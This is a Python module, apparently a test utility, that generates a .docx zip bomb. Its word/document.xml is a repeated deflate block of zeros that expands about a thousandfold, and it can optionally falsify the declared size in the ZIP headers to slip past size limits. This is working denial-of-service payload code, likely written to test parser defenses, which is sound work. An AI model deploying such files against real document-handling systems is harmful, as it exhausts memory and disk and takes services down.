"""A .docx zip bomb built in a fraction of a second: a part of `size` zero bytes compressed to about a
thousandth of that. The deflate stream is one 16 MiB block of zeros compressed once, byte-aligned by a full
flush (which also resets the history, so every copy compresses to the same bytes), repeated — then the
package is written by hand (local headers, central directory), optionally declaring a smaller size than
the part really unpacks to (headers can lie)."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

BLOCK = 1 << 24


def _deflated_zeros(size: int) -> tuple[bytes, int]:
    assert size % BLOCK == 0
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = c.compress(b"\0" * BLOCK) + c.flush(zlib.Z_FULL_FLUSH)
    tail = c.flush(zlib.Z_FINISH)
    crc = 0
    zeros = b"\0" * BLOCK
    for _ in range(size // BLOCK):
        crc = zlib.crc32(zeros, crc)
    return one * (size // BLOCK) + tail, crc


def _stored(data: bytes) -> tuple[bytes, int, int, int]:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    comp = c.compress(data) + c.flush()
    return comp, zlib.crc32(data), len(data), 8


def make_bomb(path: Path, size: int = 1 << 30, declared: int | None = None) -> Path:
    """A .docx whose word/document.xml unpacks to `size` bytes (its header says `declared`, default the
    truth)."""
    bomb, crc = _deflated_zeros(size)
    parts = [
        ("[Content_Types].xml", *_stored(b'<?xml version="1.0"?><Types/>')),
        ("word/document.xml", bomb, crc, size if declared is None else declared, 8),
    ]
    out = bytearray()
    central = bytearray()
    for name, comp, crc_, usize, method in parts:
        offset = len(out)
        raw = name.encode()
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0, crc_, len(comp), usize, len(raw), 0)
        out += raw + comp
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0, crc_, len(comp), usize,
                               len(raw), 0, 0, 0, 0, 0, offset) + raw
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(parts), len(parts), len(central), cd_offset, 0)
    path.write_bytes(bytes(out))
    return path
